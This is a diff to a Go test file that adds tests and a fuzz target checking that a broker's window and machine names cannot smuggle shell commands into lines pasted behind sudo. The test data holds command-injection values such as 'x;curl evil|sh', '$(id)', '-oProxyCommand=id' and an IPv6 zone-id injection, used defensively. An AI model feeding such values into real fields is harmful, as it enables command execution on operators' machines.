@@ -2,6 +2,7 @@ package connect
 
 import (
 	"bytes"
+	"encoding/json"
 	"io"
 	"net"
 	"net/netip"
@@ -110,6 +111,69 @@ func TestTheMachinesOwnAddress(t *testing.T) {
 	if text := out.String(); strings.Count(text, "no-device-address") != 1 || !strings.Contains(text, "192.0.2.7/32") {
 		t.Errorf("%s", text)
 	}
+}
+
+// What a broker calls its windows and machines comes into lines that are pasted
+// into a shell, one of them behind sudo: nothing but names gets there.
+func TestABrokersNamesAreNamesAlone(t *testing.T) {
+	said := func(field, value string) string {
+		w := map[string]any{"window": "W-1", "state": "open", "yours": true}
+		at := map[string]any{"asset": "filler-plc", "port": "ssh", "account": "maint", "host": "filler-plc.kiel", "address": "192.0.2.7", "number": 22, "tcp": 22}
+		if field == "window" {
+			w[field] = value
+		} else {
+			at[field] = value
+		}
+		w["targets"] = []any{at}
+		b, err := json.Marshal([]any{w})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(b)
+	}
+	for _, evil := range []string{"x;curl evil|sh", "$(id)", "`id`", "-oProxyCommand=id", "a b", "a\nb", "\x1b]0;x\a", "ä", "'"} {
+		for _, field := range []string{"window", "asset", "port", "account", "host"} {
+			if all, err := parseWindows([]byte(said(field, evil))); err == nil {
+				t.Errorf("%s %q was taken: %+v", field, evil, all)
+			}
+		}
+	}
+	for _, address := range []string{"fe80::1%lo;curl${IFS}evil|sh", "::1%$(id)", "invalid IP", "name", ""} {
+		all, err := parseWindows([]byte(said("address", address)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		var out bytes.Buffer
+		v := &visit{say: newTeller(Options{}, Terminal{Out: &out})}
+		if l := v.onDevice(waysOf(all, true)[0]); l != nil || out.Len() > 0 {
+			t.Errorf("%q: %s", address, out.String())
+		}
+	}
+	if all, err := parseWindows([]byte(said("account", "Maint_1.x"))); err != nil || all[0].Targets[0].Address != "192.0.2.7" {
+		t.Errorf("%+v, %v", all, err)
+	}
+}
+
+func FuzzWindows(f *testing.F) {
+	f.Add([]byte(`[{"window":"W-1","state":"open","yours":true,"left_seconds":60,"targets":[{"asset":"filler-plc","port":"ssh","account":"maint","number":22,"host":"filler-plc.kiel","address":"10.20.1.11","tcp":22}]}]`))
+	f.Add([]byte(`[{"window":"W-1","targets":[{"asset":"a","port":"ssh","address":"fe80::1%;id","number":1,"tcp":22}]}]`))
+	f.Add([]byte(`[{"window":"W-1;id"}]`))
+	f.Add([]byte(`null`))
+	f.Fuzz(func(t *testing.T, b []byte) {
+		all, err := parseWindows(b)
+		if err != nil {
+			return
+		}
+		for _, w := range waysOf(all, true) {
+			give, take := "", ""
+			if a, err := netip.ParseAddr(w.Address); err == nil {
+				give, take = aliasLines("linux", a)
+			}
+			if text := w.Asset + w.Port + w.Host + strings.Join(w.accounts, "") + strings.Join(w.windows, "") + give + take; strings.ContainsAny(text, ";|&$`'\"<>()*?!{}\\\n\r\x1b") {
+				t.Fatalf("%q would be pasted", text)
+			}
+		}
+	})
 }
 
 func TestWhoIsOfThisComputer(t *testing.T) {
